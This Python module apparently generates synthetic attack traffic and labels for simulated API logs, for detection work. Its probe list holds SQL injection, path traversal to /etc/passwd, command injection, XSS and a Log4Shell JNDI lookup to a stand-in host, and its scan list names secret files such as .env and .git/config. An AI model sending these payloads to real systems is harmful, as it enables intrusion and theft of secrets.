"""Attacks of seven kinds with their labels: who did what, from when to when."""

from __future__ import annotations

import random
from collections.abc import Callable, Mapping, Sequence
from dataclasses import dataclass

from flinksql_runner.simulate.api_logs.addresses import AddressBook
from flinksql_runner.simulate.api_logs.clients import EXAMPLES, Population, answered
from flinksql_runner.simulate.api_logs.lines import Request

QUIET_BEFORE, QUIET_AFTER = 20.0, 10.0
"""Seconds of a run in which nothing begins, and in which all is over: what is usual must be seen first."""

_CALM = 120.0           # seconds between two floods of an endpoint
_TOOLS = ("python-requests/2.31.0", "curl/7.88.1", "Go-http-client/1.1", "Mozilla/5.0 (Windows NT 10.0; Win64; x64)", "")
_HOSTS = ("US", "NL", "RU", "CN", "DE", "BR", "VN", "IN", "FR", "UA", "ID", "TR")
_FAR = ("US", "JP", "BR", "DE", "AU", "ZA", "IN", "KR", "GB", "MX")
_FILES = (
    "wp-login.php", "wp-admin/setup-config.php", ".env", ".git/config", "phpmyadmin/index.php", "admin/config.json",
    "backup.zip", "server-status", "api/v1/users", "actuator/env", "console/", "cgi-bin/test.cgi", "xmlrpc.php", "db.sql",
    "old/index.bak", "solr/admin/cores", "jenkins/script", "manager/html", "owa/auth/logon.aspx", "vendor/phpunit/phpunit.xml",
)
_PROBES = (
    "id=1%27%20OR%20%271%27=%271", "q=%27%20UNION%20SELECT%20password%20FROM%20users--", "file=../../../../etc/passwd",
    "name=%3Cscript%3Ealert(1)%3C/script%3E", "cmd=;cat%20/etc/passwd", "url=file:///etc/hosts", "t=%7B%7B7*7%7D%7D",
    "id=1;DROP%20TABLE%20users", "x=$(id)", "q=1%20AND%20SLEEP(5)", "img=%22onerror=alert(1)",
    "tpl=$%7Bjndi:ldap://x.example/a%7D",
)


@dataclass(frozen=True, slots=True)
class Label:
    """One injected attack. ``subjects`` are the addresses that took part, ``key`` and ``endpoint`` what it went for (empty where
    it is neither); times in ms since the epoch."""

    attack: int
    kind: str
    subjects: Sequence[str]
    key: str
    endpoint: str
    onset_ms: int
    end_ms: int
    requests: int


@dataclass(frozen=True, slots=True)
class Attack:
    """What an attack sends, in the order of time, and the part of its label that only its maker knows."""

    requests: Sequence[Request]
    key: str = ""
    endpoint: str = ""


@dataclass(frozen=True, slots=True)
class Field:
    """What makers of attacks need: the seconds in which an attack takes place, who else is there, and the seed's chance."""

    begin: float
    end: float
    rate: float
    population: Population
    book: AddressBook
    chance: random.Random

    def outsider(self) -> str:
        """An address of somebody new."""
        return self.book.draw(self.chance.choice(_HOSTS), self.chance)

    def machine(self) -> str:
        """The address of a machine that somebody has taken over: they stand where clients are."""
        return self.book.draw(self.chance.choice(self.population.clients).country, self.chance)

    def times(self, a_second: float, seconds: float) -> list[float]:
        """Moments by chance, so many a second, for so long or to the end."""
        at, found = self.begin, []
        until = min(self.end, self.begin + seconds)
        while (at := at + self.chance.expovariate(a_second)) < until:
            found.append(at)
        return found


def stuffing(field: Field) -> Attack:
    """Stolen keys, tried one after the other; a few of them fit."""
    chance, client, agent = field.chance, field.outsider(), field.chance.choice(_TOOLS)
    known = [c.key for c in field.population.clients if c.key]
    found = []
    for at in field.times(chance.uniform(0.7, 5.0), chance.uniform(16, 30)):
        fits = bool(known) and chance.random() < 0.03
        key = chance.choice(known) if fits else f"k{chance.randrange(100_000, 999_999)}"
        found.append(answered(at, client, "GET", "/v1/usage", "", 200 if fits else 401, key, agent, chance))
    return Attack(found)


def scraping(field: Field) -> Attack:
    """All examples, one after the other."""
    chance, client, agent = field.chance, field.outsider(), field.chance.choice(_TOOLS)
    first = chance.randint(1, EXAMPLES)
    return Attack([
        answered(at, client, "GET", f"/v1/examples/{(first + n) % EXAMPLES + 1}", "", 200, "", agent, chance)
        for n, at in enumerate(field.times(chance.uniform(2.0, 4.5), chance.uniform(18, 30)))])


def scanning(field: Field) -> Attack:
    """Paths that other programs have."""
    chance, client, agent = field.chance, field.outsider(), field.chance.choice(_TOOLS)
    paths = [f"/{folder}{name}" for folder in ("", "old/", "test/", "app/") for name in _FILES]
    chance.shuffle(paths)
    return Attack([
        answered(at, client, chance.choice(("GET", "HEAD", "POST")), path, "", 404, "", agent, chance)
        for at, path in zip(field.times(chance.uniform(0.8, 4.5), chance.uniform(16, 30)), paths, strict=False)])


def distributed_flood(field: Field) -> Attack:
    """Many machines that each send little, and together more than is usual by far."""
    chance = field.chance
    endpoint, share = chance.choice((("/v1/blur", 0.44), ("/", 0.12), ("/v1/examples", 0.07)))
    bots = [field.machine() for _ in range(max(60, int(field.rate * 5.0 * share * chance.uniform(1.6, 2.6))))]
    agents = [chance.choice(_TOOLS) for _ in bots]
    until = min(field.end, field.begin + chance.uniform(18, 28))
    found = []
    for bot, agent in zip(bots, agents, strict=True):
        at = field.begin + chance.uniform(0.0, 5.0)
        while at < until:
            status = 401 if endpoint == "/v1/blur" else chance.choice((200, 200, 200, 503))
            found.append(answered(at, bot, "POST" if endpoint == "/v1/blur" else "GET", endpoint, "", status, "", agent, chance))
            at += chance.uniform(3.5, 6.0)
    return Attack(sorted(found), endpoint=endpoint)


def burst_flood(field: Field) -> Attack:
    """One client that sends as much as it can; most of it is refused."""
    chance, client, agent = field.chance, field.outsider(), field.chance.choice(_TOOLS)
    path = chance.choice(("/v1/usage", "/v1/examples", "/"))
    return Attack([
        answered(at, client, "GET", path, "", 200 if n < 40 else 429, "", agent, chance)
        for n, at in enumerate(field.times(chance.uniform(18, 60), chance.uniform(10, 15)))])


def injection(field: Field) -> Attack:
    """Requests with code in them, to see whether it is run."""
    chance, client, agent = field.chance, field.outsider(), field.chance.choice(_TOOLS)
    return Attack([
        answered(at, client, "GET", "/v1/examples", chance.choice(_PROBES), chance.choice((400, 400, 200)), "", agent, chance)
        for at in field.times(chance.uniform(0.35, 2.0), chance.uniform(16, 28))])


def sharing(field: Field) -> Attack:
    """A key that is used in several countries at once."""
    chance = field.chance
    keys = [c.key for c in field.population.clients if c.kind == "program"]
    key = chance.choice(keys) if keys else "k00000"
    homes = [field.book.draw(code, chance) for code in chance.sample(_FAR, chance.randint(4, 6))]
    return Attack([
        answered(at, chance.choice(homes), "POST", "/v1/blur", "", 200, key, "python-requests/2.31.0", chance)
        for at in field.times(chance.uniform(0.8, 2.0), chance.uniform(20, 30))], key=key)


MAKERS: Mapping[str, Callable[[Field], Attack]] = {
    "credential_stuffing": stuffing, "scraping": scraping, "path_scanning": scanning, "distributed_flood": distributed_flood,
    "burst_flood": burst_flood, "injection_probes": injection, "key_sharing": sharing,
}


def schedule(duration: float, a_minute: float, rate: float, population: Population, book: AddressBook, start_ms: int,
             chance: random.Random) -> tuple[list[Request], list[Label]]:
    """Attacks over so many seconds, each kind in turn, and their labels; none where the time is too short for one.

    Floods of one endpoint don't follow each other within two minutes, since what is usual there would not be known.
    """
    first, last = QUIET_BEFORE, duration - QUIET_AFTER
    count = max(len(MAKERS), round(a_minute * (last - first) / 60.0)) if last - first >= 10 else 0
    kinds = [kind for n in range(0, count, len(MAKERS)) for kind in chance.sample(sorted(MAKERS), len(MAKERS))][:count]
    requests: list[Request] = []
    labels: list[Label] = []
    flooded: dict[str, float] = {}
    for number, kind in enumerate(kinds):
        # as many seconds as it takes at most are left where the run is long enough for that
        latest = max(first + 1.0, last - 30.0)
        begin = first + (latest - first) * (number + chance.random()) / count
        field = Field(max(begin, 30.0) if kind == "distributed_flood" else begin, last, rate, population, book, chance)
        attack = MAKERS[kind](field)
        if not attack.requests or (attack.endpoint and field.begin < flooded.get(attack.endpoint, -_CALM) + _CALM):
            continue
        if attack.endpoint:
            flooded[attack.endpoint] = attack.requests[-1].at
        requests += attack.requests
        labels.append(_label(number, kind, attack, start_ms))
    return requests, labels


def _label(number: int, kind: str, attack: Attack, start_ms: int) -> Label:
    subjects = tuple(sorted({r.client for r in attack.requests}))
    return Label(number, kind, subjects, attack.key, attack.endpoint, start_ms + int(attack.requests[0].at * 1000),
                 start_ms + int(attack.requests[-1].at * 1000), len(attack.requests))
